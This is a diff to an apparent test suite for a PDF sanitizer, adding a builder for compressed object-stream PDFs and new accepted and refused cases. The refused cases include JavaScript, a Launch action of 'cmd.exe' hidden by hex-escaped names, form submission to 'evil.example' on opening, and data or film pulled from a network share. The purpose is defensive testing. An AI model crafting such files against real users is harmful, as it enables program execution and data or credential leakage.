@@ -1,6 +1,7 @@
 """PDF files: bytes before the header, passwords, and scripts and programs wherever in the file they are."""
 
 import io
+import zlib
 from collections.abc import Callable
 from pathlib import Path
 
@@ -50,6 +51,35 @@ def made(value: object) -> PdfObject:
             return FloatObject(value)
     text = str(value)
     return NameObject(text) if text.startswith("/") else TextStringObject(text)
+
+
+def compressed(action: bytes) -> bytes:
+    """A file as other programs write it: the catalog and this action, which runs on opening, in a stream of objects."""
+    inside = {
+        1: b"<</Type/Catalog/Pages 2 0 R/Open#41ction 4 0 R>>",
+        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        4: action,
+    }
+    places, body = b"", b""
+    for number, content in inside.items():
+        places += b"%d %d " % (number, len(body))
+        body += content + b" "
+    packed = zlib.compress(places + body)
+    stream = b"<</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>stream\n%b\nendstream"
+    objects = {
+        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
+        5: stream % (len(places), len(packed), packed),
+    }
+    file, rows = b"%PDF-1.7\n", [bytes(6)] * 7
+    for place, number in enumerate(inside):
+        rows[number] = b"\2\0\0\0\5" + bytes([place])
+    for number, content in objects.items():
+        rows[number] = b"\1" + len(file).to_bytes(4, "big") + b"\0"
+        file += b"%d 0 obj\n%b\nendobj\n" % (number, content)
+    rows[6] = b"\1" + len(file).to_bytes(4, "big") + b"\0"
+    table = b"".join(rows)
+    head = b"<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>" % len(table)
+    return file + b"6 0 obj\n%bstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (head, table, len(file))
 
 
 def written(change: Callable[[PdfWriter], object], password: str | None = None) -> bytes:
@@ -154,6 +184,15 @@ REFUSED = {
     "macros": attached("a.docm"),
     "program at an annotation": annotation(Subtype="/FileAttachment", FS={"/UF": "a.bat", "/F": "a.txt", "/EF": {}}),
     "without password": locked_script(),
+    "script in a stream of objects": compressed(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"),
+    "names with digits": compressed(b"<</#53/Java#53cript/#4aS(x)>>"),
+    "launch with digits": compressed(b"<</S/L#61unch/F(cmd.exe)>>"),
+    "form to the web": annotation(A={"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "https://evil.example/"}}),
+    "form to the web on opening": compressed(b"<</S/Submit#46orm/F(https://evil.example/)>>"),
+    "form to nowhere": annotation(A={"/S": "/SubmitForm"}),
+    "data of a file": annotation(A={"/S": "/ImportData", "/F": "answers.fdf"}),
+    "data of a share": compressed(rb"<</S/ImportData/F(\\\\\\\\10.0.0.1\\\\a.fdf)>>"),
+    "film on a share": annotation(Subtype="/Movie", Movie={"/F": r"\\10.0.0.1\a.avi"}),
 }
 
 TAKEN = {
@@ -162,6 +201,9 @@ TAKEN = {
     "in the file": annotation(A={"/S": "/GoTo", "/D": [0, "/Fit"]}),
     "other file": annotation(A={"/S": "/GoToR", "/F": "other.pdf"}),
     "form": in_catalog(AcroForm={"/Fields": [{"/T": "name", "/V": "Ana"}]}),
+    "form by mail": annotation(A={"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "mailto:help@msp.example"}}),
+    "form that is emptied": annotation(A={"/S": "/ResetForm"}),
+    "link in a stream of objects": compressed(b"<</S/URI/URI(https://portal.example/)>>"),
     "form of XFA": xfa(b"<text>x</text>"),
     "invoice": attached("factur-x.xml"),
     "outline": in_catalog(Outlines={"/First": {"/Title": "JavaScript", "/A": LINK}}),
